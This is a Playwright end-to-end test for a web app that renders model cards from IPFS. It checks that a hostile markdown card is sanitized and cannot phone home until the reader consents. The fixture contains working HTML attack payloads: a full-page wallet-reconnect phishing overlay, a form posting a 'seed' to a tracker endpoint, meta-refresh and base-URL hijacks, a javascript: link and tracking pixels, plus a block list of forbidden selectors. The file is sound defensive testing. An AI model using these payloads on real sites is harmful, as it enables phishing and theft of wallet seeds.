import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "@playwright/test";
import { packFile } from "../../src/lib/ipfs/car.ts";
import { kuboAdapter } from "../../src/lib/ipfs/kubo.ts";
import { uploadCar } from "../../src/lib/ipfs/upload.ts";
import { e2eEnv, openApp } from "./support/app.ts";
import { createFreeAgent, pinJson } from "./support/agents.ts";

// A 1×1 transparent PNG.
const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=",
  "base64",
);

/** A host a hostile card tries to make the viewer's browser call: it records every request. */
async function startTracker(): Promise<{ url: string; hits: string[]; server: Server }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.writeHead(200, { "content-type": "image/png", "access-control-allow-origin": "*" });
    response.end(PIXEL);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server };
}

/** Everything a card has tried in order to cover, restyle or navigate the page, or to track its readers. */
function hostileReadme(tracker: string, imageCid: string): string {
  const row = (cell: (i: number) => string) => `| ${Array.from({ length: 60 }, (_, i) => cell(i)).join(" | ")} |`;
  return [
    "# Layout attacks",
    `<div style="position:fixed;inset:0;z-index:2147483647;background:white"><a href="${tracker}/phish">Reconnect your wallet here</a></div>`,
    `<div class="visually-hidden two-columns error" id="main" name="wallet">classes and ids of the page</div>`,
    "<style>body { display: none } header { visibility: hidden }</style>",
    `<link rel="stylesheet" href="${tracker}/sheet.css">`,
    `<meta http-equiv="refresh" content="0;url=${tracker}/refresh">`,
    `<base href="${tracker}/base/">`,
    `<form action="${tracker}/collect"><input name="seed" value="words"><button>Restore wallet</button></form>`,
    `<svg width="5000" height="5000" style="position:fixed;top:0;left:0"><a href="${tracker}/svg"><rect width="5000" height="5000"/></a></svg>`,
    `<dialog open>Your session expired</dialog>`,
    `<div popover id="pop">popover</div>`,
    `<img src="${tracker}/pixel.png" alt="tracking pixel">`,
    `![markdown image](${tracker}/markdown.png)`,
    `<img srcset="${tracker}/srcset.png 1x" alt="srcset">`,
    `<table background="${tracker}/table.png"><tr><td style="background:url(${tracker}/cell.png)">cell</td></tr></table>`,
    `<video poster="${tracker}/poster.png" src="${tracker}/video.mp4"></video><audio src="${tracker}/audio.mp3"></audio>`,
    `<picture><source srcset="${tracker}/source.png"><img alt="picture"></picture>`,
    `<object data="${tracker}/object"></object><embed src="${tracker}/embed">`,
    `<a href="#/settings">an app route</a> <a href="../../">a sibling site</a> <a href="https://example.org/docs">docs</a>`,
    `<a href="javascript:alert(1)">script link</a>`,
    `- [x] a task list item`,
    "W".repeat(3000),
    [row((i) => `column ${i}`), row(() => "---"), row(() => "x")].join("\n"),
    `![verified logo](ipfs://${imageCid})`,
  ].join("\n\n");
}

const FORBIDDEN = [
  "[style]",
  "[id]",
  "[name]",
  "[popover]",
  "[srcset]",
  "[background]",
  "style",
  "link",
  "meta",
  "base",
  "form",
  "input",
  "svg",
  "dialog",
  "video",
  "audio",
  "picture",
  "source",
  "object",
  "embed",
  "a[href^='javascript']",
  "a[href^='#']",
  "a[href^='..']",
  "[class]:not(.card-image-consent)",
  "button:not(.card-image-consent)",
];

test.describe("a hostile model card", () => {
  test("cannot cover, restyle or navigate the page, and calls no outside host until the reader asks", async ({
    page,
  }) => {
    const tracker = await startTracker();
    try {
      const { cid: imageCid } = await uploadCar(
        kuboAdapter({ url: e2eEnv().ipfsUrl }),
        await packFile(new Uint8Array(PIXEL)),
      );
      const cardCid = await pinJson({
        schema: "hexs.model-card/1",
        metadata: { license: "mit", tags: ["css"] },
        readme: hostileReadme(tracker.url, imageCid.toString()),
      });
      const agent = await createFreeAgent({ name: "Layout Attack", modelCardCid: cardCid });
      await openApp(page, `#/agent/${agent}`);
      const body = page.getByTestId("model-card").locator(".markdown");
      await expect(body.getByRole("heading", { name: "Layout attacks" })).toBeVisible();
      // The ipfs:// image is read from the local node, verified, and shown from memory.
      const verified = body.getByRole("img", { name: "verified logo" });
      await expect(verified).toHaveAttribute("src", /^blob:/);
      await expect.poll(() => verified.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);

      // Nothing presentational or active survives.
      for (const selector of FORBIDDEN) await expect(body.locator(selector), selector).toHaveCount(0);
      await expect(body.getByText("☑ a task list item")).toBeVisible();
      const docs = body.getByRole("link", { name: "docs" });
      await expect(docs).toHaveAttribute("target", "_blank");
      await expect(docs).toHaveAttribute("rel", /noopener/);

      // The page is still the page: its wallet button and navigation receive the clicks, the
      // document's base URL is the site's, and nothing spills out of the card's box.
      await page.getByRole("button", { name: "Connect wallet" }).click({ trial: true });
      await page.getByRole("link", { name: "Account" }).click({ trial: true });
      expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
      expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(
        0,
      );
      const box = (await body.boundingBox())!;
      const escaped = await body.evaluate((root, { x, y, width }) => {
        const names: string[] = [];
        for (const element of root.querySelectorAll("*")) {
          if (element.parentElement?.closest("table, pre")) continue; // scrolled inside their own box
          const rect = element.getBoundingClientRect();
          if (rect.width === 0 && rect.height === 0) continue; // not rendered (a hidden image)
          if (rect.left < x - 1 || rect.right > x + width + 1 || rect.top < y - 1) names.push(element.tagName);
        }
        return names;
      }, box);
      expect(escaped).toEqual([]);
      await body.getByText("an app route").click();
      await body.getByText("a sibling site").click();
      await expect(page).toHaveURL(new RegExp(`#/agent/${agent}$`, "i"));

      // Viewing the card told the tracker nothing; an image loads once the reader asks for it.
      await page.waitForTimeout(500);
      expect(tracker.hits).toEqual([]);
      await body.getByRole("button", { name: `Show image “tracking pixel” from ${new URL(tracker.url).host}` }).click();
      await expect(body.getByRole("img", { name: "tracking pixel" })).toBeVisible();
      await expect.poll(() => tracker.hits).toEqual(["/pixel.png"]);
    } finally {
      tracker.server.close();
    }
  });
});
